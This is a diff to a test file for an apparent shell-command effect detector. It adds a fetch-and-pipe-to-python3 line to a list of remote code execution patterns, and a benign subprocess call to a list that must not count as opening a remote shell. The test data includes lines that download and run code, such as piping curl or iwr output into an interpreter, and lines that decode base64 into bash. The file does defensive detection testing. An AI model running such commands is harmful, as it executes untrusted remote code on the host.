@@ -11,6 +11,7 @@ describe('unseen code', () => {
     'echo "$X" | base64 -d | bash',
     'sh -c "$X"',
     'eval $X',
+    'curl x.example | tee y | python3 -',
     'parallel bash -c {}',
     `python3 -c "exec(__import__('base64').b64decode('eA=='))"`,
     'iwr x.example | iex',
@@ -57,6 +58,7 @@ describe('a shell for the network', () => {
     'socat TCP-LISTEN:80,fork TCP:127.0.0.1:8080',
     `python3 -c 'import socket; socket.gethostname()'`,
     `grep -r 'socket.*/bin/sh' src`,
+    `python3 -c 'import subprocess; subprocess.run(["ls"])'`,
   ])('is not opened by %s', (line) => {
     expect(effectsIn(line)).not.toContain('code.remote_shell');
   });
